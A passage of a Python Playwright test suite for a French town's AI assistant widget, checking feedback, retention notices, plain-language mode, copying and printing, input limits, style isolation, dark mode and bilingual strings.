    group.get_by_role("button", name="Oui").click()
    expect(group.get_by_role("status")).to_have_text("Merci, votre avis est enregistré.")
    group.get_by_role("button", name="Non").click()
    expect(group.get_by_role("button", name="Non")).to_have_attribute("aria-pressed", "true")
    expect(group.get_by_role("button", name="Oui")).to_have_attribute("aria-pressed", "false")
    widget.page.get_by_label("Elle n’est plus à jour").check()
    widget.page.get_by_role("button", name="Envoyer ces raisons").click()
    widget.page.wait_for_timeout(200)
    no = {"id": "a1", "useful": False}
    assert widget.double.judged == [
        {"id": "a1", "useful": True, "reasons": []},
        no | {"reasons": []},
        no | {"reasons": ["outdated"]},
    ]
    assert heard.json_value() == widget.double.judged


def test_an_opinion_that_cannot_be_kept_says_so(widget: Widget) -> None:
    widget.visit().open().ask()
    widget.page.route("**/feedback", lambda route: route.fulfill(status=503, body="{}"))
    widget.page.get_by_role("button", name="Oui").click()
    expect(widget.page.get_by_text("Votre avis n’a pas pu être enregistré.")).to_be_visible()


def test_where_nothing_is_kept_there_is_no_reference_and_no_opinion(widget: Widget) -> None:
    widget.double.about = about(kept_days=0)
    widget.visit().open()
    expect(widget.page.get_by_text("Le service ne garde ni les questions")).to_be_visible()
    widget.ask()
    expect(widget.page.get_by_text("Référence de cette réponse")).to_have_count(0)
    expect(widget.page.get_by_role("button", name="Oui")).to_have_count(0)


def test_the_notice_says_how_long_answers_are_kept(widget: Widget) -> None:
    widget.visit().open()
    expect(widget.page.get_by_text("sont gardées 30 jours par le service")).to_be_visible()


def test_the_questions_of_the_town_are_there_to_start_from(widget: Widget) -> None:
    first, second = about()["suggestions"]
    widget.visit().open()
    ideas = widget.page.locator("assistant-pvd .idea")
    expect(ideas).to_have_text([first, second])
    ideas.first.click()
    widget.page.get_by_role("button", name="Copier", exact=True).wait_for()
    assert widget.double.asked[0]["question"] == first
    expect(ideas).to_have_text([second])
    expect(widget.page.get_by_text("Autres questions")).to_be_visible()


def test_plain_words_are_asked_for(widget: Widget) -> None:
    widget.visit().open().ask("Quand ?")
    assert widget.double.asked[0]["style"] == "standard"
    widget.page.locator("assistant-pvd .answer").get_by_role("button", name="mots simples").click()
    expect(widget.page.locator("assistant-pvd .copy")).to_have_count(2)
    switch = widget.page.locator("assistant-pvd .links").get_by_role("button", name="mots simples")
    expect(switch).to_have_attribute("aria-pressed", "true")
    widget.ask("Et ensuite ?")
    switch.click()
    widget.ask("Et puis ?")
    assert [(asked["question"], asked["style"]) for asked in widget.double.asked[1:]] == [
        ("Quand ?", "plain"), ("Et ensuite ?", "plain"), ("Et puis ?", "standard")
    ]  # fmt: skip


def test_text_can_be_made_larger(widget: Widget) -> None:
    widget.visit().open()
    size = "(one) => parseFloat(getComputedStyle(one).fontSize)"
    title = widget.page.locator("assistant-pvd h2")
    switch = widget.page.get_by_role("button", name="Texte plus grand")
    expect(switch).to_be_visible()
    before = title.evaluate(size)
    switch.click()
    assert title.evaluate(size) == pytest.approx(before * 1.35)
    switch.click()
    assert title.evaluate(size) == before


@pytest.mark.parametrize(
    ("attributes", "number"),
    [("", "0299000000"), ("contact-phone=0299111111", "0299111111")],
)
def test_an_error_names_someone_to_call(widget: Widget, attributes: str, number: str) -> None:
    if attributes:  # the server never answered
        widget.page.route("**/about", lambda route: route.abort())
    widget.visit(attributes).open()
    expect(widget.page.locator("assistant-pvd .keep")).to_have_count(1)
    widget.page.wait_for_timeout(100)
    widget.page.route("**/answers", lambda route: route.abort())
    widget.send()
    call = widget.page.get_by_role("link", name="Appeler la mairie")
    assert call.get_attribute("href") == f"tel:{number}"


def test_the_whole_conversation_is_copied_and_printed(widget: Widget) -> None:
    widget.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    widget.page.add_init_script(
        "window.print = () => { top.printed = document.body.innerText; "
        "window.dispatchEvent(new Event('afterprint')) }"
    )
    widget.visit().open().ask("Une première question ?").ask("Quand ?")
    widget.page.get_by_role("button", name="Copier la conversation").click()
    expect(widget.page.get_by_text("C’est copié.")).to_be_visible()
    copied = widget.page.evaluate("navigator.clipboard.readText()")
    widget.page.get_by_role("button", name="Imprimer la conversation").click()
    widget.page.wait_for_function("window.printed")
    for told in (copied, widget.page.evaluate("window.printed")):
        assert told.startswith("Guichen\n")
        assert told.index("Une première question ?") < told.index("Quand ?")
        assert told.replace("\u00a0", " ").count("Référence de cette réponse : a1") == 2
        assert "Revenir à la réponse" not in told


def test_it_can_be_hidden(widget: Widget) -> None:
    widget.visit("hidden")
    expect(widget.page.locator("assistant-pvd .launcher")).to_be_hidden()


def test_it_can_stand_in_the_page(widget: Widget) -> None:
    widget.visit("mode=inline")
    expect(widget.page.get_by_role("dialog")).to_have_count(0)
    widget.ask()
    assert "signée le 12 mai 2021" in widget.text(".text")


def test_the_length_of_a_question_is_counted_near_its_end(widget: Widget) -> None:
    widget.visit().open()
    field = widget.page.get_by_label("Votre question")
    field.fill("a" * 400)
    assert widget.text(".left") == ""
    field.fill(" " + "a" * 401)
    assert widget.text(".left").replace("\u00a0", " ") == "Caractères restants : 99"
    field.press("Enter")
    assert widget.text(".left") == ""


def test_nothing_of_a_long_paste_is_cut(widget: Widget) -> None:
    widget.visit().open()
    field = widget.page.get_by_label("Votre question")
    field.focus()
    widget.page.keyboard.insert_text("𝟏" * 512)  # each one code point, two UTF-16 units
    assert widget.text(".left").replace("\u00a0", " ") == "Caractères en trop : 12"
    field.press("Enter")
    expect(widget.page.get_by_role("alert")).to_contain_text("raccourcissez-la")
    assert field.input_value() == "𝟏" * 512
    assert widget.double.asked == []
    field.fill("𝟏" * 500)
    field.press("Enter")
    widget.page.get_by_role("button", name="Copier", exact=True).wait_for()
    assert widget.double.asked[0]["question"] == "𝟏" * 500


def test_a_new_answer_is_read_from_its_question_on(widget: Widget) -> None:
    widget.double.says(answer(("Une longue phrase. " * 60, [1])))
    widget.visit().open().ask("Une première question ?").ask("Quand ?")
    tops = widget.page.evaluate(
        """() => {
          const root = document.querySelector('assistant-pvd').shadowRoot
          const top = (selector) =>
            [...root.querySelectorAll(selector)].at(-1).getBoundingClientRect().top
          return [Math.round(top('.question') - top('.header') -
            root.querySelector('.header').offsetHeight),
            root.querySelector('.panel').scrollTop, window.scrollY]
        }"""
    )
    assert tops == [0, 0, 0]  # and neither the panel's header nor the page has moved


def test_enter_while_an_answer_comes_says_what_to_do(widget: Widget) -> None:
    begun = events(answer())
    done = begun.index(b"event: done")
    widget.double.streams(begun[:done], holds=True)
    widget.visit().open().send().send("Et ensuite ?")
    alert = widget.page.get_by_role("alert")
    expect(alert).to_have_text(
        "Une réponse arrive\u00a0: attendez sa fin ou arrêtez-la, puis envoyez."
    )
    widget.double.chunks.append(begun[done:])
    widget.double.holds = False
    expect(alert).to_have_text("")
    assert widget.page.get_by_label("Votre question").input_value() == "Et ensuite ?"
    assert len(widget.double.asked) == 1


def test_a_sandboxed_frame_sends(widget: Widget) -> None:
    widget.page.goto(f"{widget.double.url}/frame")
    frame = widget.page.frame_locator("iframe")
    frame.get_by_role("button", name="Poser une question (IA)").click()
    frame.get_by_label("Votre question").fill("Quand ?")
    frame.get_by_role("button", name="Envoyer").click()
    frame.get_by_role("button", name="Copier", exact=True).wait_for()
    assert widget.double.asked[0]["question"] == "Quand ?"


def test_an_empty_question_is_not_sent(widget: Widget) -> None:
    widget.visit().open().send("   ")
    expect(widget.page.get_by_role("alert")).to_have_text(
        "Écrivez votre question, puis envoyez-la."
    )
    assert widget.double.asked == []


def test_enter_that_ends_a_composition_does_not_send(widget: Widget) -> None:
    widget.visit().open()
    field = widget.page.get_by_label("Votre question")
    field.fill("日本")
    for how in ("isComposing: true", "keyCode: 229"):
        field.evaluate(
            "(field) => field.dispatchEvent(new KeyboardEvent('keydown', "
            f"{{ key: 'Enter', bubbles: true, {how} }}))"
        )
    field.press("Shift+Enter")
    assert field.input_value() == "日本\n"
    assert widget.double.asked == []


def test_copying_takes_the_sources_along(widget: Widget) -> None:
    widget.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    widget.visit().open().ask("Quand ?")
    widget.page.get_by_role("button", name="Copier", exact=True).click()
    expect(widget.page.locator("assistant-pvd .answer .tools:last-child .small")).to_have_text(
        "C’est copié."
    )
    told = widget.page.evaluate("navigator.clipboard.readText()").replace("\u00a0", " ")
    assert told.startswith("Guichen\n")
    assert "\nQuand ?\n" in told
    assert "Référence de cette réponse : a1" in told
    assert "La convention d’adhésion a été signée le 12 mai 2021. [1]" in told
    assert f"« {citation()['quote']} »" in told
    assert "https://www.exemple.fr/convention.pdf#page=12" in told
    assert "https://agence.exemple.fr/pvd" in told
    assert "Réponse d’un assistant automatique (IA), à vérifier." in told
    assert "Copier" not in told
    assert "vous a-t-elle aidé" not in told


def test_copying_says_when_it_cannot(widget: Widget) -> None:
    widget.visit().open().ask()
    widget.page.evaluate("Object.defineProperty(navigator, 'clipboard', { value: undefined })")
    widget.page.get_by_role("button", name="Copier", exact=True).click()
    expect(widget.page.locator("assistant-pvd .answer .tools:last-child .small")).to_contain_text(
        "sélectionnez"
    )


def test_printing_puts_one_answer_on_paper(widget: Widget) -> None:
    widget.page.add_init_script(
        "window.print = () => { top.printed = document.body.innerText; "
        "window.dispatchEvent(new Event('afterprint')) }"
    )
    widget.visit().open().ask("Une première question ?").ask("Quand ?")
    widget.page.get_by_role("button", name="Imprimer", exact=True).last.click()
    widget.page.wait_for_function("window.printed")
    told = widget.page.evaluate("window.printed")
    assert "\nQuand ?\n" in told
    assert "Une première question ?" not in told
    assert citation()["quote"] in told
    expect(widget.page.locator("assistant-pvd iframe")).to_have_count(0)


@pytest.mark.parametrize(
    ("language", "title"),
    [("fr", "Assistant automatique (IA)"), ("en-GB", "Automatic assistant (AI)")],
)
def test_it_speaks_the_language_of_the_page(widget: Widget, language: str, title: str) -> None:
    widget.visit(lang=language)
    widget.page.locator("assistant-pvd .launcher").click()
    expect(widget.page.get_by_role("dialog", name=title)).to_be_visible()


def test_every_string_is_in_both_languages() -> None:
    french: set[str] = set()
    english: set[str] = set()
    for path in (WIDGET, SECOND):
        source = path.read_text(encoding="utf-8")
        for language, keys in (("fr", french), ("en", english)):
            said = source.split(f"  {language}: {{\n")[1].split("\n  },")[0]
            keys |= set(re.findall(r"^    (\w+):", said, re.MULTILINE))
    assert french - english == set()
    # In French, natures are as the corpus writes them.
    assert english - french == {"presse", "reprise", "encyclopédie", "recherche"}


def test_a_printed_page_has_no_launcher(widget: Widget) -> None:
    widget.visit().open()
    widget.page.emulate_media(media="print")
    assert (
        widget.page.evaluate(
            """() => [...document.querySelector('assistant-pvd').shadowRoot.querySelectorAll('*')]
          .filter((one) => one.getClientRects().length && !one.matches('.root')).length"""
        )
        == 0
    )


def test_a_page_prints_the_conversation_that_stands_in_it(widget: Widget) -> None:
    widget.visit("mode=inline").ask()
    widget.page.emulate_media(media="print")
    expect(widget.page.locator("assistant-pvd .text")).to_be_visible()
    expect(widget.page.get_by_label("Votre question")).to_be_hidden()


LEAKING = """
body { text-transform: uppercase; white-space: pre; letter-spacing: 3px; direction: rtl;
  font-style: italic; text-align: right; word-spacing: 9px; text-indent: 4em; line-height: 3;
  visibility: visible; cursor: wait; color: red; font-family: monospace; }
* { font-variant: small-caps; text-shadow: 0 0 9px red; }
"""


@pytest.mark.parametrize("attributes", ["", "mode=inline"])
def test_the_styles_of_the_page_stay_outside(widget: Widget, attributes: str) -> None:
    measured = """() => {
      const style = getComputedStyle(
        document.querySelector('assistant-pvd').shadowRoot.querySelector('#notice'))
      return Object.fromEntries(['textTransform', 'whiteSpace', 'letterSpacing', 'direction',
        'fontStyle', 'textAlign', 'wordSpacing', 'textIndent', 'lineHeight', 'cursor', 'color',
        'fontVariant', 'textShadow'].map((name) => [name, style[name]]))
    }"""
    before = widget.visit(attributes).page.evaluate(measured)
    widget.page.evaluate(
        """(text) => {
          const sheet = new CSSStyleSheet()
          sheet.replaceSync(text)
          document.adoptedStyleSheets.push(sheet)
        }""",
        LEAKING,
    )
    assert widget.page.evaluate(measured) == before
    font = widget.page.locator("assistant-pvd #notice").evaluate(
        "(one) => getComputedStyle(one).fontFamily"
    )
    assert font == "monospace"  # but its font is taken: the widget looks at home


@pytest.mark.parametrize(
    ("scheme", "meta", "dark"),
    [("normal", "", False), ("light", "", False), ("light dark", "", True), ("dark", "", True),
     ("normal", "light dark", True)],
)  # fmt: skip
def test_a_dark_system_does_not_darken_a_light_page(
    widget: Widget, scheme: str, meta: str, dark: bool
) -> None:
    widget.page.emulate_media(color_scheme="dark")
    widget.visit(meta=meta)
    paper = widget.page.evaluate(
        """(scheme) => {
          const sheet = new CSSStyleSheet()
          sheet.replaceSync(`:root { color-scheme: ${scheme} !important }`)
          document.adoptedStyleSheets.push(sheet)
          const panel = document.querySelector('assistant-pvd').shadowRoot.querySelector('.panel')
          return getComputedStyle(panel).backgroundColor
        }""",
        scheme,
    )
    assert paper == ("rgb(22, 27, 33)" if dark else "rgb(255, 255, 255)")


def test_the_colours_of_the_town_are_taken(widget: Widget) -> None:
    colour: str = (
        widget.visit()
        .page.locator("assistant-pvd")
        .evaluate(
            """(element) => {
          element.style.setProperty('--pvd-accent', 'rgb(90, 20, 60)')
          return getComputedStyle(element.shadowRoot.querySelector('.launcher')).backgroundColor
        }"""
        )
    )
    assert colour == "rgb(90, 20, 60)"


def test_a_long_list_opens_by_keyboard_and_says_how_many_are_left(widget: Widget) -> None:
    items = [(f"Commerce numéro {n}", [1]) for n in range(24)]
    text = "Les commerces sont :\n- " + "\n- ".join(said for said, _ in items)
    reply = answer(("Les commerces sont :", [1]), *items, text=text)
    for sentence in reply["sentences"][1:]:
        sentence["before"] = "\n- "
    widget.double.says(reply)
    widget.visit().open().ask()
    rest = widget.page.locator("assistant-pvd .text .rest")
    expect(rest.get_by_text("Commerce numéro 23")).to_be_hidden()
    opens = rest.locator("summary")
    expect(opens).to_have_text("et 14 autres")
    opens.focus()
    widget.page.keyboard.press("Enter")
    expect(rest.get_by_text("Commerce numéro 23")).to_be_visible()
    assert rest.locator("li").count() == 14
